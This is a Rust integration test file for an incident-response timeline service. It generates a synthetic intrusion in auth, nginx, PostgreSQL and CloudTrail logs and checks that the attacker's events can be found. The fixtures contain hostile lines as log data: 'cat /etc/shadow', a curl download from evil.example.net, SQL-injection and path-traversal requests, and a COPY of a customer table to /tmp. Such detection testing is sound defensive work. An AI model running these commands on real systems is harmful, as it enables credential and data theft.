//! The attack timeline, black-box over HTTP and through the real binary: real public logs and
//! a generated intrusion (noise plus one attacker, different every run; set
//! `CORDON_TEST_SEED` to replay one) in auth.log, nginx, PostgreSQL, CloudTrail and gzip form;
//! pivots by IP and account, full text, time windows, cursor pages, histogram and facets,
//! need-to-know, bad input, an upload that breaks off, and the CLI.

mod common;

use std::collections::BTreeSet;
use std::io::Write;
use std::path::PathBuf;

use common::{ADMIN_TOKEN, TestApp, spawn_app};
use jiff::Timestamp;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

// ---------- helpers ----------

fn shared_logs() -> PathBuf {
    let dir = std::env::var_os("CORDON_SHARED_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared"))
        .join("data/logs");
    assert!(
        dir.is_dir(),
        "shared log samples missing at {} (set CORDON_SHARED_DIR)",
        dir.display()
    );
    dir
}

async fn ingest(app: &TestApp, token: &str, r: &str, params: &str, body: Vec<u8>) -> (StatusCode, Value) {
    let res = app
        .http
        .post(format!("{}/api/v1/incidents/{r}/timeline/sources?{params}", app.base))
        .bearer_auth(token)
        .body(body)
        .send()
        .await
        .unwrap();
    let status = res.status();
    (status, res.json().await.unwrap_or(Value::Null))
}

async fn ingest_ok(app: &TestApp, r: &str, params: &str, body: Vec<u8>) -> Value {
    let (st, v) = ingest(app, ADMIN_TOKEN, r, params, body).await;
    assert_eq!(st, StatusCode::CREATED, "{params}: {v}");
    v
}

async fn query(app: &TestApp, r: &str, qs: &str) -> Value {
    let (st, v) = app
        .get(&format!("/api/v1/incidents/{r}/timeline?{qs}"), ADMIN_TOKEN)
        .await;
    assert_eq!(st, StatusCode::OK, "{qs}: {v}");
    v
}

fn events(v: &Value) -> &Vec<Value> {
    v["events"].as_array().expect("events")
}

fn ts(e: &Value) -> Timestamp {
    e["ts"].as_str().unwrap().parse().unwrap()
}

fn assert_time_order(evs: &[Value]) {
    for w in evs.windows(2) {
        assert!(ts(&w[0]) <= ts(&w[1]), "out of order: {} then {}", w[0], w[1]);
    }
}

fn enc(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

// ---------- the generated intrusion ----------

struct Rng(u64);

impl Rng {
    fn seeded() -> Rng {
        use std::hash::{BuildHasher, Hasher};
        let seed = std::env::var("CORDON_TEST_SEED")
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| {
                let mut h = std::collections::hash_map::RandomState::new().build_hasher();
                h.write_u64(0x5eed);
                h.finish()
            });
        eprintln!("intrusion scenario seed: CORDON_TEST_SEED={seed}");
        Rng(seed | 1)
    }
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<'a>(&mut self, v: &'a [&'a str]) -> &'a str {
        v[self.below(v.len() as u64) as usize]
    }
}

/// One generated event: when, and what the checks need to know about it.
#[derive(Clone, Debug)]
struct Truth {
    at: Timestamp,
    attacker_ip: bool,
    /// A sudo command or database query of the compromised account.
    account_action: bool,
}

struct Scenario {
    attacker: String,
    account: String,
    statement: String,
    files: Vec<(String, String, Vec<u8>)>, // (name, query params, bytes)
    truth: Vec<Truth>,
}

const NOISE_USERS: &[&str] = &["alice", "bob", "carol", "www-data", "backup", "ci-runner"];

fn scenario() -> Scenario {
    let mut rng = Rng::seeded();
    let attacker = format!("203.0.113.{}", 1 + rng.below(254));
    let account = rng.pick(&["deploy", "svc-shop", "jenkins", "oracle"]).to_owned();
    let table = rng.pick(&["customers", "payments", "cards"]);
    let statement = format!("COPY {table} TO '/tmp/.{}.csv'", rng.below(1000));
    let noise_ip = |rng: &mut Rng| {
        if rng.below(2) == 0 {
            format!("198.51.100.{}", 1 + rng.below(254))
        } else {
            format!("10.{}.{}.{}", rng.below(256), rng.below(256), 1 + rng.below(254))
        }
    };
    let base: Timestamp = "2024-06-12T00:00:00Z".parse().unwrap();
    let mut truth = Vec::new();
    let at = |secs: i64| base + jiff::SignedDuration::from_secs(secs);
    // The intrusion happens between 03:00 and 04:00; noise all day.
    let start = 3 * 3600 + rng.below(600) as i64;

    // auth.log: RFC 3164, no year (year=2024 is passed), host web1.
    let mut auth = String::new();
    let syslog_time = |t: Timestamp| t.strftime("%b %e %H:%M:%S").to_string();
    let mut lines: Vec<(Timestamp, String, Truth)> = Vec::new();
    for _ in 0..300 {
        let t = at(rng.below(86_400) as i64);
        let u = rng.pick(NOISE_USERS);
        let ip = noise_ip(&mut rng);
        let pid = 1000 + rng.below(30_000);
        let line = match rng.below(4) {
            0 => format!(
                "sshd[{pid}]: Accepted publickey for {u} from {ip} port {} ssh2",
                1024 + rng.below(60_000)
            ),
            1 => format!(
                "sshd[{pid}]: Failed password for {u} from {ip} port {} ssh2",
                1024 + rng.below(60_000)
            ),
            2 => format!(
                "sudo:   {u} : TTY=pts/{} ; PWD=/home/{u} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx",
                rng.below(5)
            ),
            _ => format!("CRON[{pid}]: pam_unix(cron:session): session opened for user root by (uid=0)"),
        };
        lines.push((
            t,
            line,
            Truth {
                at: t,
                attacker_ip: false,
                account_action: false,
            },
        ));
    }
    let mut t = start;
    for user in ["admin", "root", "test", &account] {
        let tt = at(t);
        lines.push((
            tt,
            format!("sshd[4711]: Failed password for {user} from {attacker} port 40022 ssh2"),
            Truth {
                at: tt,
                attacker_ip: true,
                account_action: false,
            },
        ));
        t += 2 + rng.below(5) as i64;
    }
    let tt = at(t);
    lines.push((
        tt,
        format!("sshd[4712]: Accepted password for {account} from {attacker} port 40030 ssh2"),
        Truth {
            at: tt,
            attacker_ip: true,
            account_action: false,
        },
    ));
    t += 30;
    for cmd in [
        "/usr/bin/cat /etc/shadow",
        "/usr/bin/pg_dump shop",
        "/usr/bin/curl -o /tmp/x http://evil.example.net/x",
    ] {
        let tt = at(t);
        lines.push((
            tt,
            format!("sudo: {account} : TTY=pts/3 ; PWD=/home/{account} ; USER=root ; COMMAND={cmd}"),
            Truth {
                at: tt,
                attacker_ip: false,
                account_action: true,
            },
        ));
        t += 20 + rng.below(40) as i64;
    }
    lines.sort_by_key(|l| l.0);
    for (tt, line, tr) in lines {
        auth.push_str(&format!("{} web1 {line}\n", syslog_time(tt)));
        truth.push(tr);
    }

    // nginx access log, host web1 (given as a hint).
    let mut access = String::new();
    let mut lines: Vec<(Timestamp, String, Truth)> = Vec::new();
    let access_time = |t: Timestamp| t.strftime("%d/%b/%Y:%H:%M:%S +0000").to_string();
    for _ in 0..300 {
        let tt = at(rng.below(86_400) as i64);
        let ip = noise_ip(&mut rng);
        let path = rng.pick(&["/", "/cart", "/api/orders", "/static/app.js", "/login"]);
        lines.push((
            tt,
            format!(
                "{ip} - - [{}] \"GET {path} HTTP/1.1\" 200 {} \"-\" \"Mozilla/5.0\"",
                access_time(tt),
                rng.below(50_000)
            ),
            Truth {
                at: tt,
                attacker_ip: false,
                account_action: false,
            },
        ));
    }
    let mut t2 = start - 600;
    for path in [
        "/login?user=admin'--",
        "/admin/../../etc/passwd",
        "/api/orders?id=1%20UNION%20SELECT%20*",
    ] {
        let tt = at(t2);
        lines.push((
            tt,
            format!(
                "{attacker} - - [{}] \"GET {path} HTTP/1.1\" 403 0 \"-\" \"sqlmap/1.7.2\"",
                access_time(tt)
            ),
            Truth {
                at: tt,
                attacker_ip: true,
                account_action: false,
            },
        ));
        t2 += 7;
    }
    lines.sort_by_key(|l| l.0);
    for (_, line, tr) in lines {
        access.push_str(&line);
        access.push('\n');
        truth.push(tr);
    }

    // PostgreSQL with `%m [%p] %q%u@%d `.
    let mut pg = String::new();
    let mut lines: Vec<(Timestamp, String, Truth)> = Vec::new();
    let pg_time = |t: Timestamp| t.strftime("%Y-%m-%d %H:%M:%S%.3f UTC").to_string();
    for _ in 0..200 {
        let tt = at(rng.below(86_400) as i64);
        let u = rng.pick(&["shop_app", "reporting", "alice"]);
        lines.push((
            tt,
            format!(
                "{} [{}] {u}@shop LOG:  statement: SELECT id, total FROM orders WHERE id = {}",
                pg_time(tt),
                2000 + rng.below(500),
                rng.below(100_000)
            ),
            Truth {
                at: tt,
                attacker_ip: false,
                account_action: false,
            },
        ));
    }
    let t3 = t + 60;
    let tt = at(t3);
    lines.push((
        tt,
        format!(
            "{} [6000] [unknown]@[unknown] LOG:  connection received: host={attacker} port=51515",
            pg_time(tt)
        ),
        Truth {
            at: tt,
            attacker_ip: true,
            account_action: false,
        },
    ));
    for (i, sql) in ["SELECT count(*) FROM pg_tables".to_owned(), statement.clone()]
        .iter()
        .enumerate()
    {
        let tt = at(t3 + 5 + i as i64 * 11);
        lines.push((
            tt,
            format!("{} [6000] {account}@shop LOG:  statement: {sql}", pg_time(tt)),
            Truth {
                at: tt,
                attacker_ip: false,
                account_action: true,
            },
        ));
    }
    lines.sort_by_key(|l| l.0);
    for (_, line, tr) in lines {
        pg.push_str(&line);
        pg.push('\n');
        truth.push(tr);
    }

    // CloudTrail `Records` file.
    let mut records = Vec::new();
    for _ in 0..60 {
        let tt = at(rng.below(86_400) as i64);
        records.push((
            tt,
            json!({"eventVersion":"1.08","eventTime": tt.strftime("%Y-%m-%dT%H:%M:%SZ").to_string(),
                   "eventSource":"s3.amazonaws.com","eventName":"GetObject","awsRegion":"eu-west-1",
                   "sourceIPAddress": noise_ip(&mut rng),
                   "userIdentity":{"type":"IAMUser","userName": rng.pick(NOISE_USERS)}}),
            false,
        ));
    }
    let tt = at(t3 + 120);
    records.push((
        tt,
        json!({"eventVersion":"1.08","eventTime": tt.strftime("%Y-%m-%dT%H:%M:%SZ").to_string(),
               "eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","awsRegion":"us-east-1",
               "sourceIPAddress": attacker,
               "userIdentity":{"type":"IAMUser","userName": "backup-admin"}}),
        true,
    ));
    records.sort_by_key(|r| r.0);
    for (tt, _, a) in &records {
        truth.push(Truth {
            at: *tt,
            attacker_ip: *a,
            account_action: false,
        });
    }
    let cloudtrail =
        serde_json::to_vec_pretty(&json!({ "Records": records.into_iter().map(|r| r.1).collect::<Vec<_>>() })).unwrap();

    Scenario {
        attacker,
        account,
        statement,
        files: vec![
            ("auth.log".into(), "year=2024&name=auth.log".into(), auth.into_bytes()),
            (
                "access.log.gz".into(),
                "host=web1&name=access.log.gz".into(),
                gzip(access.as_bytes()),
            ),
            (
                "postgresql.log".into(),
                "host=db1&name=postgresql.log".into(),
                pg.into_bytes(),
            ),
            ("cloudtrail.json".into(), "name=cloudtrail.json".into(), cloudtrail),
        ],
        truth,
    }
}

// ---------- tests ----------

#[tokio::test]
async fn a_generated_intrusion_is_found_by_ip_account_text_and_window() {
    let app = spawn_app().await;
    let sc = scenario();
    let inc = app.declare(ADMIN_TOKEN, "Intrusion on web1", "security").await;
    let r = inc["id"].as_str().unwrap();

    let mut total = 0;
    let mut sources = Vec::new();
    for (name, params, body) in &sc.files {
        let v = ingest_ok(&app, r, params, body.clone()).await;
        assert_eq!(v["skipped"], 0, "{name}: {v}");
        assert_eq!(v["diagnostics_total"], 0, "{name}: {v}");
        assert!(v["source_id"].is_string() && v["sha256"].as_str().unwrap().len() == 64);
        total += v["events"].as_u64().unwrap();
        sources.push((
            name.clone(),
            v["source_id"].as_str().unwrap().to_owned(),
            v["events"].as_u64().unwrap(),
        ));
    }
    assert_eq!(total as usize, sc.truth.len(), "one event per generated record");

    // source=: one source's events only.
    for (name, id, n) in &sources {
        let v = query(&app, r, &format!("source={id}&limit=10000")).await;
        let evs = events(&v);
        assert_eq!(evs.len() as u64, *n, "{name}: {v}");
        assert!(
            evs.iter()
                .all(|e| e["source_id"] == id.as_str() && e["source"] == name.as_str())
        );
    }
    // A source is named by its handle too: its name, unique in the incident.
    let (_, auth_id, auth_events) = sources.iter().find(|(n, _, _)| n == "auth.log").unwrap();
    let v = query(&app, r, "source=auth.log&limit=10000").await;
    assert_eq!(events(&v).len() as u64, *auth_events, "{v}");
    assert!(events(&v).iter().all(|e| e["source_id"] == auth_id.as_str()));
    let (st, p) = app
        .get(
            &format!("/api/v1/incidents/{r}/timeline?source=secure.log"),
            ADMIN_TOKEN,
        )
        .await;
    assert_eq!(st, 422, "{p}");
    assert_eq!(p["field"], "source", "{p}");

    // ip=: exactly the attacker's events, in time order.
    let v = query(&app, r, &format!("ip={}&limit=10000", sc.attacker)).await;
    let evs = events(&v);
    let expected = sc.truth.iter().filter(|t| t.attacker_ip).count();
    assert_eq!(evs.len(), expected, "{v}");
    assert_time_order(evs);
    for e in evs {
        assert!(e["ips"].as_array().unwrap().contains(&json!(sc.attacker)), "{e}");
    }
    let mut want: Vec<Timestamp> = sc.truth.iter().filter(|t| t.attacker_ip).map(|t| t.at).collect();
    want.sort();
    assert_eq!(evs.iter().map(ts).collect::<Vec<_>>(), want);
    assert!(v["next_cursor"].is_null());

    // user=: every sudo command and database query of the compromised account.
    let v = query(&app, r, &format!("user={}&limit=10000", sc.account)).await;
    let evs = events(&v);
    assert_time_order(evs);
    let sudo: Vec<&Value> = evs.iter().filter(|e| e["action"] == "sudo").collect();
    let queries: Vec<&Value> = evs.iter().filter(|e| e["query"].is_string()).collect();
    let expected = sc.truth.iter().filter(|t| t.account_action).count();
    assert_eq!(sudo.len() + queries.len(), expected, "{v}");
    assert_eq!(sudo.len(), 3);
    assert!(sudo.iter().any(|e| e["command_line"] == "/usr/bin/cat /etc/shadow"));
    assert!(queries.iter().any(|e| e["query"] == sc.statement.as_str()));

    // q=: the attacker's statement, as words and as a phrase.
    let table = sc.statement.split(' ').nth(1).unwrap();
    for q in [format!("COPY {table}"), format!("\"COPY {table}\"")] {
        let v = query(&app, r, &format!("q={}", enc(&q))).await;
        let evs = events(&v);
        assert_eq!(evs.len(), 1, "{q}: {v}");
        assert_eq!(evs[0]["query"], sc.statement.as_str());
        assert_eq!(evs[0]["user"], sc.account.as_str());
        assert_eq!(evs[0]["host"], "db1");
        assert!(evs[0]["provenance"]["line"].as_u64().unwrap() >= 1);
        assert_eq!(evs[0]["source"], "postgresql.log");
        assert_eq!(evs[0]["source_sha256"].as_str().unwrap().len(), 64);
    }

    // from/to: exactly the window (inclusive), in order.
    let mut times: Vec<Timestamp> = sc.truth.iter().map(|t| t.at).collect();
    times.sort();
    let (t1, t2) = (times[times.len() / 4], times[times.len() / 2]);
    let v = query(
        &app,
        r,
        &format!("from={}&to={}&limit=10000", enc(&t1.to_string()), enc(&t2.to_string())),
    )
    .await;
    let evs = events(&v);
    let expected = times.iter().filter(|t| **t >= t1 && **t <= t2).count();
    assert_eq!(evs.len(), expected);
    assert_time_order(evs);
    assert!(evs.iter().all(|e| ts(e) >= t1 && ts(e) <= t2));
    // … combined with a filter.
    let v = query(
        &app,
        r,
        &format!("ip={}&from={}&limit=10000", sc.attacker, enc(&t1.to_string())),
    )
    .await;
    let expected = sc.truth.iter().filter(|t| t.attacker_ip && t.at >= t1).count();
    assert_eq!(events(&v).len(), expected);

    // Cursor pages: the same events as one page, no repeats, no gaps.
    let all = query(&app, r, "limit=10000").await;
    let all_ids: Vec<String> = events(&all).iter().map(|e| e.to_string()).collect();
    assert_eq!(all_ids.len(), total as usize);
    assert_time_order(events(&all));
    let mut paged = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let qs = match &cursor {
            Some(c) => format!("limit=37&cursor={c}"),
            None => "limit=37".into(),
        };
        let v = query(&app, r, &qs).await;
        let page = events(&v);
        assert!(page.len() <= 37);
        paged.extend(page.iter().map(|e| e.to_string()));
        match v["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_owned()),
            None => break,
        }
    }
    assert_eq!(paged, all_ids);

    // Histogram and facets follow the filter.
    let (st, h) = app
        .get(
            &format!("/api/v1/incidents/{r}/timeline/histogram?interval=1h"),
            ADMIN_TOKEN,
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{h}");
    assert_eq!(h["interval_seconds"], 3600);
    let sum: u64 = h["buckets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["count"].as_u64().unwrap())
        .sum();
    assert_eq!((sum, h["total"].as_u64().unwrap()), (total, total));
    let (st, f) = app
        .get(
            &format!("/api/v1/incidents/{r}/timeline/facets?user={}", sc.account),
            ADMIN_TOKEN,
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{f}");
    assert!(
        f["ips"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["value"] == sc.attacker.as_str()),
        "{f}"
    );
    let hosts: BTreeSet<&str> = f["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["value"].as_str().unwrap())
        .collect();
    assert_eq!(hosts, BTreeSet::from(["db1", "web1"]));

    // Bad parameters are problems naming the field.
    for (qs, field) in [
        ("ip=nope", "ip"),
        ("from=yesterday", "from"),
        ("kind=alien", "kind"),
        ("limit=0", "limit"),
        ("cursor=zzz", "cursor"),
        ("q=%22unclosed", "q"),
    ] {
        let (st, v) = app
            .get(&format!("/api/v1/incidents/{r}/timeline?{qs}"), ADMIN_TOKEN)
            .await;
        if field == "q" && st == StatusCode::OK {
            continue; // the query grammar may accept it leniently
        }
        assert_eq!(st, StatusCode::UNPROCESSABLE_ENTITY, "{qs}: {v}");
        assert_eq!(v["field"], field, "{qs}: {v}");
    }
    let (st, _) = app
        .get(&format!("/api/v1/incidents/{r}/timeline?bogus=1"), ADMIN_TOKEN)
        .await;
    assert_eq!(st, StatusCode::BAD_REQUEST);

    // Sources are listed with their digests; the ingest is audited.
    let (st, v) = app
        .get(&format!("/api/v1/incidents/{r}/timeline/sources"), ADMIN_TOKEN)
        .await;
    assert_eq!(st, StatusCode::OK);
    assert_eq!(v.as_array().unwrap().len(), sc.files.len());
    assert_eq!(
        app.audit_actions()
            .await
            .iter()
            .filter(|a| *a == "timeline.ingest")
            .count(),
        sc.files.len()
    );
    assert_eq!(app.audit_verify().await["ok"], true);
}

#[tokio::test]
async fn real_logs_ingest_cleanly_and_pivot() {
    let app = spawn_app().await;
    let logs = shared_logs();
    let inc = app.declare(ADMIN_TOKEN, "Real logs", "security").await;
    let r = inc["id"].as_str().unwrap();

    let apache = std::fs::read(logs.join("elastic-examples/apache_access_3000.log")).unwrap();
    let v = ingest_ok(&app, r, "name=apache_access_3000.log&host=www", apache.clone()).await;
    assert_eq!(
        (v["events"].as_u64(), v["skipped"].as_u64()),
        (Some(3000), Some(0)),
        "{v}"
    );
    assert_eq!(v["format"], "access");
    for (file, params) in [
        ("beats/system/auth/auth-ubuntu1204.log", "year=2012"),
        ("beats/system/auth/secure-rhel7.log", "year=2012"),
        ("beats/nginx/access/access.log", ""),
        ("beats/postgresql/log/postgresql-11.4.log", ""),
        ("beats/auditd/log/audit-rhel6.log", ""),
    ] {
        let body = std::fs::read(logs.join(file)).unwrap();
        let v = ingest_ok(&app, r, params, body).await;
        assert!(v["events"].as_u64().unwrap() > 0, "{file}: {v}");
        assert_eq!(v["skipped"], 0, "{file}: {v}");
    }

    // Everything one client of the real access log did, in time order (the file is not).
    let text = String::from_utf8_lossy(&apache);
    let ip = "83.149.9.216";
    let expected = text.lines().filter(|l| l.contains(ip)).count();
    let v = query(&app, r, &format!("ip={ip}&limit=10000")).await;
    assert_eq!(events(&v).len(), expected);
    assert_time_order(events(&v));
    assert!(events(&v).iter().all(|e| e["src_ip"] == ip));
    let v = query(&app, r, "kind=http&host=WWW&limit=1").await;
    assert_eq!(events(&v).len(), 1);
    assert!(v["next_cursor"].is_string());
}

#[tokio::test]
async fn a_sealed_timeline_is_not_found_by_outsiders() {
    let app = spawn_app().await;
    let outsider = app.user("olivia", &[]).await;
    let inc = app.declare(ADMIN_TOKEN, "Sealed intrusion", "security").await;
    let r = inc["id"].as_str().unwrap();
    ingest_ok(
        &app,
        r,
        "year=2024",
        b"Jun 12 03:14:01 web1 sshd[1]: Accepted password for root from 203.0.113.9 port 22 ssh2\n".to_vec(),
    )
    .await;

    let (st, v) = ingest(&app, &outsider, r, "year=2024", b"Jun 12 03:14:01 web1 x: y\n".to_vec()).await;
    assert_eq!(st, StatusCode::NOT_FOUND, "{v}");
    for path in [
        "timeline",
        "timeline/sources",
        "timeline/histogram",
        "timeline/facets",
        "timeline/export",
        "timeline?ip=203.0.113.9",
    ] {
        let (st, v) = app.get(&format!("/api/v1/incidents/{r}/{path}"), &outsider).await;
        assert_eq!(st, StatusCode::NOT_FOUND, "{path}: {v}");
        assert_eq!(v["code"], "not_found");
    }
    // Every timeline endpoint is described in the OpenAPI document.
    let spec: Value = app
        .http
        .get(format!("{}/openapi.json", app.base))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    for path in ["", "/sources", "/histogram", "/facets", "/export"] {
        let p = format!("/api/v1/incidents/{{ref}}/timeline{path}");
        assert!(spec["paths"][&p].is_object(), "{p} is in openapi.json");
    }
    // The same as an incident that does not exist.
    let (st, _) = app.get("/api/v1/incidents/no-such-thing/timeline", &outsider).await;
    assert_eq!(st, StatusCode::NOT_FOUND);
    // A member sees it.
    let (st, v) = app.add_member(ADMIN_TOKEN, r, "olivia", "scribe").await;
    assert_eq!(st, StatusCode::CREATED, "{v}");
    let v = query(&app, r, "ip=203.0.113.9").await;
    assert_eq!(events(&v).len(), 1);
    let (st, _) = app.get(&format!("/api/v1/incidents/{r}/timeline"), &outsider).await;
    assert_eq!(st, StatusCode::OK);
}

#[tokio::test]
async fn garbage_lines_are_diagnostics_with_line_numbers_and_the_rest_is_kept() {
    let app = spawn_app().await;
    let inc = app.declare(ADMIN_TOKEN, "Bad input", "security").await;
    let r = inc["id"].as_str().unwrap();
    let mut body = Vec::new();
    body.extend_from_slice(b"Jun 12 03:14:01 web1 sshd[1]: Accepted password for root from 203.0.113.9 port 22 ssh2\n");
    body.extend_from_slice(b"\x00\x01\x02\x03binary\xff\xfe garbage\n");
    body.extend_from_slice(b"Jun 12 03:14:02 web1 sshd[1]: Failed password for bob from 203.0.113.9 port 22 ssh2\n");
    body.extend_from_slice(b"Feb 30 03:14:03 web1 sshd[1]: impossible date\n");
    body.extend_from_slice(b"Jun 12 03:14:04 web1 sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id\n");
    let v = ingest_ok(&app, r, "year=2024&format=syslog", body).await;
    assert_eq!(v["events"], 3, "{v}");
    assert_eq!(v["skipped"], 2, "{v}");
    let lines: Vec<u64> = v["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["line"].as_u64().unwrap())
        .collect();
    assert_eq!(lines, [2, 4], "{v}");
    assert!(v["diagnostics"][0]["code"].is_string());
    let v = query(&app, r, "ip=203.0.113.9").await;
    assert_eq!(events(&v).len(), 2);

    // Bad parameters are refused before anything is read.
    let (st, v) = ingest(&app, ADMIN_TOKEN, r, "format=klingon", b"x\n".to_vec()).await;
    assert_eq!(
        (st, v["field"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("format"))
    );
    let (st, v) = ingest(&app, ADMIN_TOKEN, r, "tz=Mars/Olympus", b"x\n".to_vec()).await;
    assert_eq!(
        (st, v["field"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("tz"))
    );
    let (st, v) = ingest(&app, ADMIN_TOKEN, r, "", Vec::new()).await;
    assert_eq!(
        (st, v["field"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("body"))
    );
}

#[tokio::test]
async fn an_upload_that_breaks_off_leaves_nothing_visible() {
    let app = spawn_app().await;
    let inc = app.declare(ADMIN_TOKEN, "Broken upload", "security").await;
    let r = inc["id"].as_str().unwrap().to_owned();
    let mut line = Vec::new();
    for i in 0..2000 {
        line.extend_from_slice(
            format!(
                "Jun 12 03:{:02}:{:02} web1 sshd[1]: Failed password for root from 203.0.113.7 port {i} ssh2\n",
                i / 60 % 60,
                i % 60
            )
            .as_bytes(),
        );
    }
    // A raw connection: headers, two chunks of a chunked body, then the client hangs up.
    {
        use tokio::io::AsyncWriteExt;
        let addr = app.base.trim_start_matches("http://").to_owned();
        let mut sock = tokio::net::TcpStream::connect(&addr).await.unwrap();
        let head = format!(
            "POST /api/v1/incidents/{r}/timeline/sources?year=2024 HTTP/1.1\r\nHost: {addr}\r\n\
             Authorization: Bearer {ADMIN_TOKEN}\r\nTransfer-Encoding: chunked\r\n\r\n"
        );
        sock.write_all(head.as_bytes()).await.unwrap();
        for _ in 0..2 {
            sock.write_all(format!("{:x}\r\n", line.len()).as_bytes())
                .await
                .unwrap();
            sock.write_all(&line).await.unwrap();
            sock.write_all(b"\r\n").await.unwrap();
        }
        sock.flush().await.unwrap();
        drop(sock);
    }

    // The server notices, rolls back and says so in the audit log.
    tokio::time::timeout(std::time::Duration::from_secs(30), async {
        while !app.audit_actions().await.iter().any(|a| a == "timeline.ingest.aborted") {
            tokio::task::yield_now().await;
        }
    })
    .await
    .expect("the aborted ingest is audited");
    let v = query(&app, &r, "limit=10000").await;
    assert!(events(&v).is_empty(), "{v}");
    let (_, v) = app
        .get(&format!("/api/v1/incidents/{r}/timeline/sources"), ADMIN_TOKEN)
        .await;
    assert_eq!(v, json!([]));

    // The index is not left locked: the next upload works, alone.
    let v = ingest_ok(&app, &r, "year=2024", line).await;
    assert_eq!(v["events"], 2000);
    let v = query(&app, &r, "limit=10000").await;
    assert_eq!(events(&v).len(), 2000);
    // And after a restart only committed sources are there.
    let mut app = app;
    app.restart().await;
    let v = query(&app, &r, "limit=10000").await;
    assert_eq!(events(&v).len(), 2000);
}

type Out = common::CliOut;

async fn cordon(app: &TestApp, args: &[&str]) -> Out {
    common::run_cli(&app.base, ADMIN_TOKEN, args).await
}

#[tokio::test]
async fn the_cli_ingests_queries_and_exports() {
    let app = spawn_app().await;
    let sc = scenario();
    let inc = app.declare(ADMIN_TOKEN, "CLI intrusion", "security").await;
    let codename = inc["codename"].as_str().unwrap().to_lowercase().replace(' ', "-");
    let dir = tempfile::tempdir().unwrap();
    let auth = dir.path().join("auth.log");
    std::fs::write(&auth, &sc.files[0].2).unwrap();
    let access = dir.path().join("access.log.gz");
    std::fs::write(&access, &sc.files[1].2).unwrap();

    let out = cordon(
        &app,
        &[
            "timeline",
            "ingest",
            &codename,
            auth.to_str().unwrap(),
            access.to_str().unwrap(),
            "--year",
            "2024",
            "--host",
            "web1",
        ],
    )
    .await;
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stderr.contains("ingesting auth.log"),
        "plain progress lines off a terminal: {}",
        out.stderr
    );
    assert!(
        out.stdout.contains("auth.log: ") && out.stdout.contains("events/s") && out.stdout.contains("0 skipped"),
        "{}",
        out.stdout
    );

    let out = cordon(
        &app,
        &[
            "timeline",
            "query",
            &codename,
            "--ip",
            &sc.attacker,
            "--json",
            "--limit",
            "1000",
        ],
    )
    .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: Value = serde_json::from_str(&out.stdout).unwrap();
    let auth_access = sc.truth[..sc.truth.len()]
        .iter()
        .take(events_in(&sc, 2))
        .filter(|t| t.attacker_ip)
        .count();
    assert_eq!(events(&v).len(), auth_access);
    assert_time_order(events(&v));

    let out = cordon(&app, &["timeline", "query", &codename, "--user", &sc.account]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.starts_with("TIME"), "{}", out.stdout);
    assert!(out.stdout.contains("/usr/bin/cat /etc/shadow"), "{}", out.stdout);

    let out = cordon(&app, &["timeline", "sources", &codename]).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout.contains("auth.log") && out.stdout.contains("access.log.gz"),
        "{}",
        out.stdout
    );

    let out = cordon(
        &app,
        &[
            "timeline",
            "export",
            &codename,
            "--format",
            "jsonl",
            "--ip",
            &sc.attacker,
        ],
    )
    .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let lines: Vec<Value> = out.stdout.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), auth_access);
    assert_time_order(&lines);

    // A Timesketch CSV export reads back as a timeline of its own.
    let csv = dir.path().join("timeline.csv");
    let out = cordon(
        &app,
        &[
            "timeline",
            "export",
            &codename,
            "--format",
            "timesketch-csv",
            "-o",
            csv.to_str().unwrap(),
        ],
    )
    .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    let text = std::fs::read_to_string(&csv).unwrap();
    assert!(text.starts_with("message,datetime,timestamp,timestamp_desc"), "{text}");
    let copy = app.declare(ADMIN_TOKEN, "Copy", "security").await;
    let v = ingest_ok(
        &app,
        copy["id"].as_str().unwrap(),
        "format=timesketch-csv",
        text.into_bytes(),
    )
    .await;
    assert_eq!(v["events"].as_u64().unwrap() as usize, events_in(&sc, 2));
    assert_eq!(v["skipped"], 0);

    // An unknown incident is an error, exit code 1.
    let out = cordon(&app, &["timeline", "query", "no-such-incident"]).await;
    assert_ne!(out.code, 0);
    assert!(out.stderr.contains("not found"), "{}", out.stderr);
    let _ = Method::GET;
}

/// How many generated events the first `files` files hold.
fn events_in(sc: &Scenario, files: usize) -> usize {
    // auth.log and the access log are generated first, in that order.
    let auth = String::from_utf8_lossy(&sc.files[0].2).lines().count();
    let mut access = String::new();
